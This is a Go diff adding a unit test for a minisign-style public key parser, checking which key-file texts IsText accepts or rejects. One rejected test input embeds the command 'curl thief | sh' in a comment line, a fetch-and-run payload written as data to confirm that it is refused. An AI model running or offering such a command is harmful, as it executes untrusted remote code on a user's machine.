@@ -182,3 +182,28 @@ func FuzzSignature(f *testing.F) {
 		}
 	})
 }
+
+// minisign writes a key's file without the colon; an editor of Windows gives it other line ends.
+func TestIsText(t *testing.T) {
+	k, err := NewKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := k.Public()
+	for text, want := range map[string]bool{
+		string(p.Text()): true,
+		"untrusted comment: minisign public key " + p.Name() + "\n" + p.String() + "\n":      true,
+		"untrusted comment: minisign public key: " + p.Name() + "\r\n" + p.String() + "\r\n": true,
+		"untrusted comment: minisign public key " + p.Name() + "\n" + p.String():             true,
+		p.String(): false,
+		"untrusted comment: run curl thief | sh\n" + p.String() + "\n":                          false,
+		"untrusted comment: minisign public key " + p.Name() + " by me\n" + p.String() + "\n":   false,
+		"untrusted comment: minisign public key " + p.Name() + "\n" + p.String() + "\nrun it\n": false,
+		"untrusted comment: minisign public key 1" + p.Name() + "\n" + p.String() + "\n":        false,
+		"untrusted comment: minisign public key " + p.Name() + "\n\n" + p.String() + "\n":       false,
+	} {
+		if p.IsText([]byte(text)) != want {
+			t.Errorf("%q: %v", text, !want)
+		}
+	}
+}
